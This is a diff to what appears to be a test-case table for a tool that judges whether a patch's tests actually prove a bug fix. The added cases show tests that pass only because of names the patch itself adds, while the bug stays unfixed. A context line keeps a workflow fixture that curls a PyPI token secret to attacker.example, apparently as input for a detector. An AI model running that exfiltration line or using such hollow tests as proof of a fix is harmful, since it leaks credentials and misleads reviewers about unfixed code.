@@ -194,6 +194,20 @@ _SECRET_WORKFLOW = (
     "on: pull_request_target\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n"
     '      - run: curl -s -d "${{ secrets.PYPI_TOKEN }}" https://attacker.example/\n'
 )
+# Test ids decided by the code under test: one per public name of calc.core, one test
+# function per entry of a code list (the old code has fewer of both).
+_PUBLIC_NAMES_ARE_CALLABLE = (
+    "import pytest\n\nfrom calc import core\n\n\n"
+    '@pytest.mark.parametrize("name", sorted(n for n in vars(core) if not n.startswith("_")))\n'
+    "def test_public_name_is_callable(name):\n    assert callable(getattr(core, name))\n"
+)
+_GENERATED_FROM_CODE = (
+    "from calc import core\n\n\n"
+    "def _callable(name):\n    def check():\n        assert callable(getattr(core, name))\n\n"
+    "    return check\n\n\n"
+    'for _name in getattr(core, "OPERATIONS", ("add", "mul", "sub")):\n'
+    '    globals()[f"test_{_name}_is_callable"] = _callable(_name)\n'
+)
 _RENAME_OLD_NEW = """\
 diff --git a/calc/core.py b/calc/core2.py
 similarity index 100%
@@ -684,6 +698,61 @@ CASES: tuple[Case, ...] = (
         # Not refused (an issue may ask for the change), never verified: a reviewer
         # confirms the behaviour change, shown side by side.
         verdict=Verdict.UNVERIFIED,
+    ),
+    # Evidence that shows no fix (issue "the verdict claims more than it proves"): the
+    # bug (``add`` subtracts) is left alone, and a test id that exists only with the
+    # patch's code passes. Absence from the old-code run counts as failing only when
+    # the test's own module could not be collected there; these modules collected fine.
+    Case(
+        "parametrize-row-from-a-new-code-name",
+        "evidence",
+        changes={
+            "calc/core.py": CORE + "\n\ndef div(a, b):\n    return a / b\n",
+            "tests/test_names.py": _PUBLIC_NAMES_ARE_CALLABLE,
+        },
+        verdict=Verdict.UNVERIFIED,
+    ),
+    Case(
+        "parametrize-id-from-a-code-docstring",
+        "evidence",
+        changes={
+            "calc/core.py": CORE.replace(
+                "def mul(a, b):\n", 'def mul(a, b):\n    """Multiply."""\n'
+            ),
+            "tests/test_core.py": TESTS.replace(
+                "from calc.core import mul, sub\n",
+                "import pytest\n\nfrom calc.core import mul, sub\n",
+            ).replace(
+                "def test_mul():\n    assert mul(2, 3) == 6\n",
+                '@pytest.mark.parametrize("want", [6], ids=[mul.__doc__ or "plain"])\n'
+                "def test_mul(want):\n    assert mul(2, 3) == want\n",
+            ),
+        },
+        verdict=Verdict.UNVERIFIED,
+    ),
+    Case(
+        "test-functions-generated-from-a-code-list",
+        "evidence",
+        changes={
+            "calc/core.py": CORE + '\n\nOPERATIONS = ("add", "mul", "sub", "neg")\n\n\n'
+            "def neg(a):\n    return -a\n",
+            "tests/test_generated.py": _GENERATED_FROM_CODE,
+        },
+        verdict=Verdict.UNVERIFIED,
+    ),
+    # A limit, not a bypass closed: a new test that fails on the old code only because it
+    # asks for what the patch adds (a constant here; the honest new-function test fails
+    # the same way) is evidence, beside a wrong fix of the bug. The verdict names its
+    # evidence tests for the reviewer (README, "what they do not").
+    Case(
+        "new-test-asserts-a-constant-the-patch-adds",
+        "evidence",
+        changes={
+            "calc/core.py": CORE.replace("return a - b\n\n\ndef mul", "return b - a\n\n\ndef mul")
+            + '\n\nVERSION = "0.2"\n',
+            "tests/test_version.py": "from calc import core\n\n\n"
+            'def test_version():\n    assert core.VERSION == "0.2"\n',
+        },
     ),
     # honest patches
     Case(
